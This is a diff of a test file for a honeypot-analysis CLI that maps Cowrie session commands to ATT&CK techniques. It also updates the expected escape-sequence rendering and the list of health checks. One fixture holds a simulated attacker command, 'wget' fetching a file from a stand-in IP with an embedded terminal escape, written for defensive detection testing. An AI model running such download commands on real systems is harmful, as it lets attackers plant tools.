@@ -51,7 +51,7 @@ describe('ttp up --once', () => {
     const folder = aFolder({ 'cowrie.json': aCowrieSession('5e55', ['wget http://192.0.2.1/x \u001b[2J', 'true']) });
     const { code, stdout } = await ttp(['up', '--demo', '--cowrie', 'cowrie.json', '--once'], { env: { INIT_CWD: folder } });
     expect(stdout).toMatch(/^192\.0\.2\.7\n/);
-    expect(stdout).toMatch(/T1105 +Ingress Tool Transfer .* wget http:\/\/192\.0\.2\.1\/x \\x1b\[2J\n/);
+    expect(stdout).toMatch(/T1105 +Ingress Tool Transfer .* wget http:\/\/192\.0\.2\.1\/x \\u\{1b\}\[2J\n/);
     expect(stdout).toMatch(/\n1 sessions, 2 commands: \d+ tags of \d+ techniques, \d announcements, in \d+\.\d s\n$/);
     expect(stdout).not.toContain('\u001b');
     expect(code).toBe(0);
@@ -119,6 +119,10 @@ describe('ttp up --once', () => {
   });
 });
 
+/** But for those that the host and its version of nats-server decide. */
+const ALL_CHECKS =
+  'node nats-server token ports broker streams worker dlq database database-clock outbox catalogue rules rule-sync rule-digests'.split(' ');
+
 describe('ttp up', () => {
   it('stays up with answering URLs, starts a lost service or broker again under its URL, satisfies the doctor, and drains on Ctrl-C', async () => {
     const data = join(aFolder(), 'data');
@@ -144,7 +148,8 @@ describe('ttp up', () => {
     const freePorts = ['--port', '--worker-port', '--rule-store-port', '--rule-sync-port'].flatMap((flag) => [flag, '0']);
     const doctor = await ttp(['doctor', '--nats', broker, '--db-path', join(data, 'ttp.sqlite'), ...freePorts]);
     const findings = [...doctor.stdout.matchAll(/^(\S+) +(\S+)/gm)].map(([, verdict, check]) => `${verdict} ${check}`);
-    expect(findings).toEqual(['node', 'nats-server', 'catalogue', 'rules', 'broker', 'streams', 'worker', 'dlq', 'database', 'ports'].map((check) => `ok ${check}`));
+    const sure = findings.filter((finding) => !/^(ok|WARN|skipped) (power-loss|broker-clock|disk|keys)$/.test(finding));
+    expect(sure).toEqual(ALL_CHECKS.map((check) => `ok ${check}`));
     expect(doctor.code).toBe(0);
 
     const running = run.descendants();
